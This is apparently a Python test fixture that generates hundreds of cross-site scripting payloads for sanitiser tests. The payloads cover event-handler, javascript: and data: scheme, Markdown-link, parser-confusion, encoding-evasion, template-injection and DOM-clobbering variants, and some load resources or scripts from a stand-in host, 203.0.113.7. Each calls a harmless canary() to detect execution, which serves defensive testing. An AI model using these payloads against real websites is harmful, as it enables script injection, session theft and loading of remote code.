# ruff: noqa: E501 (one text a line would hide what belongs together)
"""Texts that want to become a script, for S03 and S04: ways in from the history of browsers, sanitisers and Markdown.

Each calls `canary()` if a browser ever runs it, so that running can be told from merely standing there.
"""

from itertools import product

CALL = "canary()"
EVENTS = (
    "onload", "onerror", "onclick", "onmouseover", "onfocus", "onblur", "ontoggle", "onanimationstart",
    "onpointerenter", "onwheel", "onbegin", "onpageshow", "onhashchange", "onscrollend", "onbeforetoggle",
)  # fmt: skip
ELEMENTS = (
    "<img src=x {}>", "<svg {}>", "<body {}>", "<details open {}>x</details>", "<input autofocus {}>",
    "<a href=# tabindex=1 {}>x</a>", "<video {}><source src=x></video>", "<iframe {}></iframe>", "<style {}></style>",
)  # fmt: skip
SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\x01javascript:", "javascript&colon;",
    "&#106;avascript:", "&#x6A;avascript&#58;", "vbscript:", "data:text/html,<script>canary()</script>//",
    "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==//", "javascript://%0a", "\u200bjavascript:", "feed:javascript:",
    "view-source:javascript:", "blob:javascript:", "jar:javascript:",
)  # fmt: skip
LINKS = (
    "[x]({})", "<{}>", "![x]({})", '<a href="{}">x</a>', "[x]: {}\n\n[x]", '<form action="{}"><button>x</button></form>',
    '<iframe src="{}"></iframe>', '<object data="{}"></object>', '<svg><a xlink:href="{}"><text>x</text></a></svg>',
)  # fmt: skip
OTHERS = (
    "<script>canary()</script>", "<ScRiPt>canary()</sCrIpT>", "<script src=data:text/javascript,canary()></script>",
    "<script/x>canary()</script>", "<script\n>canary()</script>", "<<script>canary()//<</script>", "<script>canary()",
    "</script><script>canary()</script>", "</title><script>canary()</script>", "</textarea><script>canary()</script>",
    "</style><script>canary()</script>", "--><script>canary()</script>", "]]><script>canary()</script>",
    '"><script>canary()</script>', "'><script>canary()</script>", "`><script>canary()</script>",
    '" onmouseover="canary()', "' autofocus onfocus='canary()", '"onfocus=canary() autofocus x="',
    "<scr<script>ipt>canary()</scr</script>ipt>", "<script>/*</script>*/canary()</script>",
    "<svg><script>canary()</script></svg>", "<svg><script href=data:,canary() />", "<svg/onload=canary()>",
    "<svg><animate onbegin=canary() attributeName=x dur=1s>", "<svg><set attributeName=onmouseover to=canary()>",
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>canary()</script></svg>#x">',
    "<svg><foreignObject><iframe srcdoc='<script>parent.canary()</script>'></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=canary()>",
    "<math><mi//xlink:href='data:x,<script>canary()</script>'>",
    '<math><annotation-xml encoding="text/html"><script>canary()</script></annotation-xml></math>',
    '<noscript><p title="</noscript><img src=x onerror=canary()>">',
    "<svg></p><style><a id='</style><img src=1 onerror=canary()>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary()>",
    "<template><script>canary()</script></template>", "<xmp><p title='</xmp><img src=x onerror=canary()>'>",
    "<textarea><img title='</textarea><img src=x onerror=canary()>'>", "<title><img title='</title><img src=x onerror=canary()>'>",
    "<iframe srcdoc='<script>parent.canary()</script>'></iframe>", "<iframe srcdoc=&lt;script&gt;parent.canary()&lt;/script&gt;>",
    "<embed src=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Y2FuYXJ5KCk+>", "<object type=text/html data=data:text/html,x>",
    "<base href=//203.0.113.7/><script src=x></script>", "<meta http-equiv=refresh content='0;url=javascript:canary()'>",
    "<link rel=stylesheet href=//203.0.113.7/x.css>", "<link rel=import href=//203.0.113.7/x>", "<img src=//203.0.113.7/x.png>",
    "<style>@import'//203.0.113.7/x.css';</style>", "<div style=background:url(//203.0.113.7/x)>x</div>",
    "<p style='animation:x' onanimationstart=canary()>", "<x style=expression(canary())>", "<body background=//203.0.113.7/x>",
    "<marquee onstart=canary()>x</marquee>", "<audio src=x onerror=canary()>", "<video poster=javascript:canary()>",
    "<button form=x formaction=javascript:canary()>x</button><form id=x>", "<input type=image src=x onerror=canary()>",
    "<select autofocus onfocus=canary()>", "<keygen autofocus onfocus=canary()>", "<isindex action=javascript:canary()>",
    "<table background=javascript:canary()>", "<frameset onload=canary()>", "<bgsound src=javascript:canary()>",
    "<layer src=//203.0.113.7/x>", "<xml id=x><x>canary()</x></xml>", "<!--<img src='--><img src=x onerror=canary()>'>",
    "<![CDATA[<script>canary()</script>]]>", "<?xml-stylesheet href='javascript:canary()'?>", "<!DOCTYPE x [<!ENTITY y 'z'>]>&y;",
    "<img src=`x`onerror=canary()>", "<img/src=x/onerror=canary()>", "<img src=x\nonerror\n=\ncanary()>", "<img src=x onerror=canary&lpar;&rpar;>",
    "<img src=x onerror=\"&#99;anary()\">", "<img src='x' \x00onerror=canary()>", "<im\x00g src=x onerror=canary()>",
    "\u003cscript\u003ecanary()\u003c/script\u003e", "&lt;script&gt;canary()&lt;/script&gt;", "&#60;script&#62;canary()&#60;/script&#62;",
    "%3Cscript%3Ecanary()%3C/script%3E", "+ADw-script+AD4-canary()+ADw-/script+AD4-", "\uff1cscript\uff1ecanary()\uff1c/script\uff1e",
    "¼script¾canary()¼/script¾", "<a href=https://example.org onclick=canary()>x</a>", "<a href='https://example.org' style=x>x</a>",
    "[x](https://example.org 'onmouseover=canary()')", '[x](https://example.org "\\"onmouseover=canary()")',
    '![x" onerror="canary()](x)', "![x](x 'onerror=canary()')", "```<script>canary()</script>```", "`<script>canary()</script>`",
    "    <script>canary()</script>", "> <script>canary()</script>", "* <script>canary()</script>", "# <script>canary()</script>",
    "[<script>canary()</script>](x)", "[x](<javascript:canary()>)", "[x](javascript&#58;canary())", "[x](javascript&colon;canary())",
    "<https://example.org/\"onmouseover=canary()>", "https://example.org/<script>canary()</script>", "https://example.org/'onclick='canary()",
    "mailto:x@example.org?subject=<script>canary()</script>", "www.example.org\"onmouseover=\"canary()", "{{constructor.constructor('canary()')()}}",
    "${canary()}", "#{canary()}", "<%= canary() %>", "{% raw %}<script>canary()</script>{% endraw %}", "[[x]]<script>canary()</script>",
    "javascript:canary()", "';canary();//", "\";canary();//", "\\';canary();//", "</script>';canary();//", "*/canary()/*",
    "\u2028canary()", "<a id=viewer name=csrf_token>x</a>", "<form id=viewer><input name=csrf_token>", "<img name=getElementById src=x>",
)  # fmt: skip


def texts() -> list[str]:
    """At least 342 different ones."""
    handlers = [element.format(f"{event}={CALL}") for element, event in product(ELEMENTS, EVENTS)]
    links = [link.format(scheme + CALL) for link, scheme in product(LINKS[:6], SCHEMES)]
    links += [link.format(scheme + CALL) for link, scheme in product(LINKS[6:], SCHEMES[:4])]
    return list(dict.fromkeys([*OTHERS, *handlers, *links]))
